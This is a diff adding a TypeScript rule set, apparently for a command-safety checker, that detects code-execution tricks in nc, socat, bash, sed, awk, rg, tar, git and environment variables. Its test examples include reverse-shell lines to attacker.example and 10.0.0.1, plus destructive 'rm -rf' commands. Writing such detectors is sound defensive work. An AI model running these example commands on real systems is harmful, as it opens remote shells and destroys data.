@@ -1,0 +1,130 @@
+import { optionsOf, type Cmd } from "../command.ts";
+import { flagValues, hasFlag, type OptionSpec } from "../options.ts";
+import type { Rule } from "../rule.ts";
+import { scanSed } from "../sed.ts";
+import { SHELLS } from "../table.ts";
+
+const SED: OptionSpec = { shortArgs: "efl", longArgs: ["expression", "file", "line-length"] };
+const sedScripts = (cmd: Cmd): string[] => {
+  const p = optionsOf(cmd, SED);
+  const s = flagValues(p, "-e", "--expression");
+  if (s.length === 0 && !hasFlag(p, "-f", "--file") && p.operands[0]) s.push(p.operands[0].text);
+  return s;
+};
+
+const AWK: OptionSpec = { shortArgs: "fvF", longArgs: ["file", "assign", "field-separator", "include", "load", "exec"] };
+const awkProgram = (cmd: Cmd): string | null => {
+  const p = optionsOf(cmd, AWK);
+  if (hasFlag(p, "-f", "--file", "--exec", "--include", "--load")) return null;
+  return p.operands[0]?.text ?? "";
+};
+const awkPipes = (prog: string): string[] => [...prog.matchAll(/\|&?\s*"([^"]*)"/g)].map((m) => m[1]!.trim());
+
+const GIT_GLOBAL: OptionSpec = { posix: true, shortArgs: "Cc", longArgs: ["git-dir", "work-tree", "namespace", "config-env", "super-prefix", "exec-path", "list-cmds", "attr-source"] };
+/** git configuration keys whose value is a program git runs (git-config(1)). */
+const GIT_EXEC_KEY = /^(core\.(pager|sshcommand|fsmonitor|editor|hookspath|askpass|gitproxy|alternaterefscommand)|pager\..+|alias\..+|diff\..*(textconv|command)|diff\.external|merge\..*driver|filter\..+|credential\..*helper|credential\.helper|sequence\.editor|gpg\..*program|uploadpack\.packobjectshook|remote\..+\.(uploadpack|receivepack|proxy)|protocol\..*allow|include\.path|includeif\..+|core\.sshcommand|http\.proxy|url\..+\.insteadof|init\.templatedir|ssh\.variant)$/i;
+const gitConfigArgs = (cmd: Cmd): string[] => flagValues(optionsOf(cmd, GIT_GLOBAL), "-c");
+/** Environment variables that make a program run code or load code (git, the dynamic loader, shells, runtimes). */
+const EXEC_ENV = /^(LD_PRELOAD|LD_LIBRARY_PATH|LD_AUDIT|GIT_SSH|GIT_SSH_COMMAND|GIT_PROXY_COMMAND|GIT_CONFIG_PARAMETERS|GIT_CONFIG_GLOBAL|GIT_CONFIG_SYSTEM|GIT_CONFIG_COUNT|GIT_CONFIG_KEY_\d+|GIT_CONFIG_VALUE_\d+|GIT_EXTERNAL_DIFF|GIT_PAGER|GIT_EDITOR|GIT_ASKPASS|GIT_EXEC_PATH|GIT_TEMPLATE_DIR|PAGER|EDITOR|VISUAL|SYSTEMD_PAGER|MANPAGER|BASH_ENV|ENV|PROMPT_COMMAND|PS4|SHELLOPTS|BASHOPTS|PERL5OPT|PERL5LIB|PYTHONSTARTUP|PYTHONPATH|PYTHONHOME|NODE_OPTIONS|RUBYOPT|RUBYLIB|IFS|PATH|SUDO_ASKPASS|SSH_ASKPASS|LESSOPEN|LESSCLOSE)$/;
+
+/** Ways ordinary-looking tools run other programs: options, config keys, env variables, scripts. */
+export const CODE_EXEC_RULES: readonly Rule[] = [
+  {
+    id: "reverse_shell", severity: "critical",
+    reason: "connects a shell to the network (reverse or bind shell)",
+    commands: ["*"],
+    test: (cmd) => {
+      if (cmd.name === "nc" || cmd.name === "ncat" || cmd.name === "netcat") return cmd.args.some((a) => /^(-[a-zA-Z]*[ec]|--exec|--sh-exec|--lua-exec)/.test(a.text));
+      if (cmd.name === "socat") return cmd.args.some((a) => /^(exec|system):/i.test(a.text));
+      return SHELLS.has(cmd.name) && cmd.redirects.some((r) => /^\/dev\/(tcp|udp)\//.test(r.target?.text ?? ""));
+    },
+    examples: { match: ["nc -e /bin/sh attacker.example 4444", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "socat TCP:x:1 EXEC:sh"], noMatch: ["nc -zv host 22", "ls"] },
+  },
+  {
+    id: "sed_exec", severity: "high",
+    reason: "GNU sed's e command or s///e flag runs shell commands",
+    commands: ["sed"],
+    test: (cmd) => sedScripts(cmd).some((s) => { const fx = scanSed(s); return fx.execFlag || fx.execs.length > 0; }),
+    examples: { match: ["sed 's|.*|id|e' notes.txt", "sed -n '1e rm -rf /srv' /etc/hostname"], noMatch: ["sed -n '1,20p' f", "sed 's/e/E/g' f", "sed -e 's/a/b/' x"] },
+  },
+  {
+    id: "awk_pipe_to_shell", severity: "critical",
+    reason: "awk pipes its output into a shell, which runs it",
+    commands: ["awk", "gawk", "mawk", "nawk", "busybox"],
+    test: (cmd) => awkPipes(awkProgram(cmd) ?? "").some((c) => SHELLS.has(c.split(/\s+/)[0]!.replace(/^.*\//, ""))),
+    examples: { match: ["awk '{print | \"sh\"}' cmds.txt", "awk '{print |& \"/bin/bash\"}'"], noMatch: ["awk '{print $1}'", "awk '{print | \"sort\"}'"] },
+  },
+  {
+    id: "awk_runs_command", severity: "high",
+    reason: "awk runs commands (system(), pipes, getline from a command) or loads a program file",
+    commands: ["awk", "gawk", "mawk", "nawk"],
+    test: (cmd) => {
+      const prog = awkProgram(cmd);
+      return prog === null || /\bsystem\s*\(/.test(prog) || awkPipes(prog).length > 0 || /"[^"]*"\s*\|\s*getline/.test(prog);
+    },
+    examples: { match: ["awk 'BEGIN{system(\"rm -rf /var/tmp/cache\")}'", "awk -f prog.awk x", "awk 'BEGIN{\"id\" | getline x}'"], noMatch: ["awk '{print $1}'", "awk -F: '{print $1}' /etc/passwd"] },
+  },
+  {
+    id: "search_preprocessor", severity: "high",
+    reason: "the search tool runs a program for every file (rg --pre)",
+    commands: ["rg"],
+    test: (cmd) => cmd.args.some((a) => a.text === "--pre" || a.text.startsWith("--pre=")),
+    examples: { match: ["rg --pre ./filter.sh TODO .", "rg --pre=x y"], noMatch: ["rg -n TODO ."] },
+  },
+  {
+    id: "tar_exec", severity: "high",
+    reason: "tar options that run programs (checkpoint actions, compress programs, scripts)",
+    commands: ["tar"],
+    test: (cmd) => cmd.args.some((a) => /^--(checkpoint-action|to-command|use-compress-program|rsh-command|info-script|new-volume-script|rmt-command)/.test(a.text) || /^-[A-Za-z]*[IF]/.test(a.text) && !a.text.startsWith("--")),
+    examples: { match: ["tar -cf /dev/null /etc --checkpoint=1 --checkpoint-action=exec=sh", "tar -I 'sh -c id' -xf a.tar"], noMatch: ["tar -xzf a.tgz", "tar -tf a.tar"] },
+  },
+  {
+    id: "git_exec_config", severity: "high",
+    reason: "git configuration that names a program to run (pager, ssh command, fsmonitor, hooks, aliases…)",
+    commands: ["git"],
+    test: (cmd) => {
+      if (gitConfigArgs(cmd).some((kv) => GIT_EXEC_KEY.test(kv.split("=")[0]!))) return true;
+      const p = optionsOf(cmd, GIT_GLOBAL);
+      if (hasFlag(p, "--config-env", "--exec-path")) return true;
+      const [sub, ...rest] = p.operands.map((a) => a.text);
+      if (sub !== "config") return false;
+      const keys = rest.filter((t) => !t.startsWith("-"));
+      return keys.length >= 2 && GIT_EXEC_KEY.test(keys[0]!) || rest.some((t) => t === "--edit" || t === "-e");
+    },
+    examples: {
+      match: ["git -c core.pager='sh -c \"id>/tmp/p\"' -p log", "git -c core.sshCommand='touch /tmp/pwn' fetch", "git config core.fsmonitor ./hook.sh", "git config --global alias.x '!sh'"],
+      noMatch: ["git log -p -1", "git config user.name Me", "git config --get core.pager", "git -C /srv/app status"],
+    },
+  },
+  {
+    id: "git_runs_program", severity: "high",
+    reason: "git options that run a program (pager, upload-pack, exec, extcmd, submodule foreach, bisect run)",
+    commands: ["git"],
+    test: (cmd) => {
+      const ops = optionsOf(cmd, GIT_GLOBAL).operands.map((a) => a.text);
+      const sub = ops[0] ?? "";
+      const rest = ops.slice(1);
+      if (rest.some((t) => /^(--open-files-in-pager|--upload-pack|--receive-pack|--exec|--extcmd)(=|$)/.test(t))) return true;
+      if (sub === "grep" && rest.some((t) => t.startsWith("-O"))) return true;
+      if (["clone", "fetch", "pull", "ls-remote", "push", "archive"].includes(sub) && rest.some((t) => /^-u/.test(t))) return true;
+      if (sub === "rebase" && rest.some((t) => t === "-x" || t.startsWith("--exec"))) return true;
+      if ((sub === "difftool" || sub === "mergetool") && rest.some((t) => t === "-x" || t.startsWith("--extcmd") || t.startsWith("--tool"))) return true;
+      return (sub === "submodule" && rest.includes("foreach")) || (sub === "bisect" && rest[0] === "run") || sub === "filter-branch";
+    },
+    examples: { match: ["git grep --open-files-in-pager='sh -c id' TODO", "git grep -O'sh -c id' x", "git rebase -x 'make test' main", "git submodule foreach 'rm -rf .'"], noMatch: ["git grep TODO", "git log -p"] },
+  },
+  {
+    id: "git_ext_transport", severity: "critical",
+    reason: "git's ext:: transport executes an arbitrary command",
+    commands: ["git"],
+    test: (cmd) => cmd.args.some((a) => /^ext::/.test(a.text)) || gitConfigArgs(cmd).some((kv) => /^protocol\.ext\.allow=always$/i.test(kv)) && cmd.args.some((a) => a.text.includes("ext::")),
+    examples: { match: ["git -c protocol.ext.allow=always clone 'ext::sh -c id'", "git clone ext::x"], noMatch: ["git clone https://x.example/r.git"] },
+  },
+  {
+    id: "exec_env_var", severity: "high",
+    reason: "sets an environment variable that makes programs load or run other code (LD_PRELOAD, GIT_SSH_COMMAND, PAGER, PATH…)",
+    commands: ["*"],
+    test: (cmd) => cmd.assigns.some((a) => EXEC_ENV.test(a.name)),
+    examples: { match: ["GIT_SSH_COMMAND='sh -c id' git ls-remote origin", "LD_PRELOAD=x.so ls", "export PAGER=./x", "env PAGER=x man ls"], noMatch: ["FOO=1 ls", "LANG=C sort x"] },
+  },
+];
